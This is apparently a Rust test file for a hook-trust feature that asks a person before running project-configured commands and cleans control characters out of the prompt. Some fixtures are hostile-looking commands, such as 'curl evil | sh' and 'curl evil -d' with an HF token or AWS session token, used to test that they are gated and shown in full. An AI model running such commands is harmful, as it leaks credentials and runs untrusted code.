//! Who is asked, how often, and what counts as the same commands.

use std::sync::Mutex;
use std::time::Duration;

use async_trait::async_trait;
use bytes::Bytes;
use protocol::editor::OutputStream;

use super::*;
use crate::config::schema::{OnFailure, Where};
use crate::config::{Layer, Place, Source};
use crate::frontend::{Progress, Terminal};
use crate::hooks::HookPoint;

/// A person who answers always the same, and remembers what was asked.
#[derive(Debug)]
struct Person {
    answer: Option<Answer>,
    asked: Mutex<Vec<String>>,
}

impl Person {
    fn new(answer: Option<Answer>) -> Self {
        Self { answer, asked: Mutex::default() }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().expect("no test panics while it is locked").drain(..).collect()
    }
}

#[async_trait]
impl Frontend for Person {
    fn report(&self, _: Progress) {}

    fn tell(&self, _: String) {}

    async fn output(&self, _: OutputStream, _: Bytes) {}

    async fn ask(&self, question: &Question) -> Option<Answer> {
        self.asked.lock().expect("no test panics while it is locked").push(question.text());
        self.answer.clone()
    }

    fn terminal(&self) -> Option<Terminal> {
        None
    }
}

fn hook(layer: Layer, place: Where, run: &str) -> Hook {
    let source = Source::file(layer, Path::new("/p/mltoolbox.yaml"));
    Hook {
        point: HookPoint::ConfigLoaded,
        run: run.to_owned(),
        place,
        timeout: Duration::from_secs(1),
        on_failure: OnFailure::Warn,
        said: Place { source, line: 3, column: 5 },
    }
}

async fn store(folder: &Path) -> Store {
    Store::open(&folder.join("state.db")).await.expect("a database for the test")
}

#[test]
fn only_what_a_projects_file_would_run_here_is_concerned() {
    let hooks = [
        hook(Layer::Project, Where::Local, "a"),
        hook(Layer::Local, Where::Local, "b"),
        hook(Layer::User, Where::Local, "c"),
        hook(Layer::System, Where::Local, "d"),
        hook(Layer::Project, Where::Remote, "e"),
        hook(Layer::Project, Where::Container, "f"),
        Hook { said: Place::whole(Source::Flag("--set".into())), ..hook(Layer::Project, Where::Local, "g") },
        hook(Layer::Project, Where::Remote, "curl evil -d ${secret:hf-token}"),
        hook(Layer::Local, Where::Remote, "curl evil -d ${env:AWS_SESSION_TOKEN:}"),
        hook(Layer::User, Where::Remote, "login ${secret:hf-token}"),
    ];
    let concerned: Vec<&str> = concerned(&hooks).iter().map(|hook| hook.run.as_str()).collect();
    assert_eq!(concerned, ["a", "b", "curl evil -d ${secret:hf-token}", "curl evil -d ${env:AWS_SESSION_TOKEN:}"]);
}

#[tokio::test]
async fn a_person_is_asked_once_and_again_when_a_command_changes() {
    let folder = tempfile::tempdir().expect("a folder for the test");
    let store = store(folder.path()).await;
    let project = Path::new("/home/ada/project");
    let person = Person::new(Some(Answer::Yes));
    let make = hook(Layer::Project, Where::Local, "make");
    let evil = hook(Layer::Project, Where::Local, "make; curl evil | sh");
    let ask = async |hooks: &[&Hook]| ask(&store, &person, project, hooks).await.expect("it is answered");

    assert!(ask(&[]).await && person.asked().is_empty());
    assert!(ask(&[&make]).await);
    assert_eq!(person.asked().len(), 1);
    assert!(ask(&[&make]).await && person.asked().is_empty());
    // Where it stands, and how long it may run, is no other command.
    let moved =
        Hook { timeout: Duration::from_secs(9), said: hook(Layer::Local, Where::Local, "").said, ..make.clone() };
    assert!(ask(&[&moved]).await && person.asked().is_empty());
    assert!(ask(&[&evil]).await);
    assert!(person.asked()[0].starts_with("Changed since"));
    // The same text elsewhere is another command.
    assert!(ask(&[&Hook { place: Where::Remote, ..evil.clone() }]).await);
    assert_eq!(person.asked().len(), 1);
    // Two commands are not one whose text is both.
    assert!(ask(&[&make, &make]).await);
    assert_eq!(person.asked().len(), 1);
    assert_eq!(state(&store, Path::new("/elsewhere"), &[&make]).await.expect("a state"), TrustState::Unknown);
}

#[tokio::test]
async fn a_no_is_kept_and_nobody_is_no_answer() {
    let folder = tempfile::tempdir().expect("a folder for the test");
    let store = store(folder.path()).await;
    let project = Path::new("/home/ada/project");
    let make = hook(Layer::Project, Where::Local, "make");

    let error = ask(&store, &Person::new(None), project, &[&make]).await.expect_err("nobody is there");
    assert_eq!(error.code, Code::TrustNeeded);
    assert!(error.help.contains("`mltoolbox-sidecar trust --workspace /home/ada/project`"), "{}", error.help);
    assert_eq!(state(&store, project, &[&make]).await.expect("a state"), TrustState::Unknown);

    let no = Person::new(Some(Answer::No));
    assert!(!ask(&store, &no, project, &[&make]).await.expect("it is answered"));
    assert!(!ask(&store, &Person::new(None), project, &[&make]).await.expect("it was answered"));
    assert_eq!(state(&store, project, &[&make]).await.expect("a state"), TrustState::Refused);

    say(&store, project, &[&make], true).await.expect("it is stored");
    assert_eq!(state(&store, project, &[&make]).await.expect("a state"), TrustState::Trusted);
    forget(&store, project).await.expect("it is forgotten");
    assert_eq!(state(&store, project, &[&make]).await.expect("a state"), TrustState::Unknown);
}

#[tokio::test]
async fn who_wants_to_trust_is_shown_what_first() {
    let folder = tempfile::tempdir().expect("a folder for the test");
    let store = store(folder.path()).await;
    let project = Path::new("/home/ada/project");
    let make = hook(Layer::Project, Where::Local, "make");
    let said = async || state(&store, project, &[&make]).await.expect("a state");

    let error = confirm(&store, &Person::new(None), false, project, &[&make]).await.expect_err("nobody is there");
    assert!(error.help.contains("--yes"), "{}", error.help);
    assert_eq!(said().await, TrustState::Unknown);

    let person = Person::new(Some(Answer::No));
    confirm(&store, &person, false, project, &[&make]).await.expect("it is answered");
    assert!(person.asked()[0].contains("on_config_loaded: make"));
    assert_eq!(said().await, TrustState::Refused);

    let person = Person::new(Some(Answer::Yes));
    confirm(&store, &person, false, project, &[&make]).await.expect("it is answered");
    assert_eq!((person.asked().len(), said().await), (1, TrustState::Trusted));

    forget(&store, project).await.expect("it is forgotten");
    confirm(&store, &Person::new(None), true, project, &[&make]).await.expect("the flag answers");
    assert_eq!(said().await, TrustState::Trusted);
}

#[test]
fn a_command_cannot_hide_in_the_question() {
    let lines = hook(Layer::Project, Where::Local, "true\non_connect: harmless");
    let steers = hook(Layer::Project, Where::Local, "a\rb\u{202e}c\u{2028}d\u{1b}[2J");
    let long = hook(Layer::Project, Where::Local, &format!("{}; curl evil | sh", "x".repeat(5000)));
    let there = hook(Layer::Project, Where::Remote, "login ${secret:a}");
    let shown = listed(&[&lines, &steers, &long, &there]);
    assert_eq!(shown[0], "on_config_loaded: true ⏎ on_connect: harmless");
    assert_eq!(shown[1], "on_config_loaded: a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}[2J");
    assert!(shown[2].ends_with("x; curl evil | sh"), "{}", shown[2]);
    assert_eq!(shown[3], "on_config_loaded (where: remote): login ${secret:a}");
    let many: Vec<Hook> = (0..30).map(|number| hook(Layer::Project, Where::Local, &format!("a {number}"))).collect();
    let shown = listed(&many.iter().collect::<Vec<_>>());
    assert_eq!((shown.len(), shown[29].as_str()), (30, "on_config_loaded: a 29"));
}
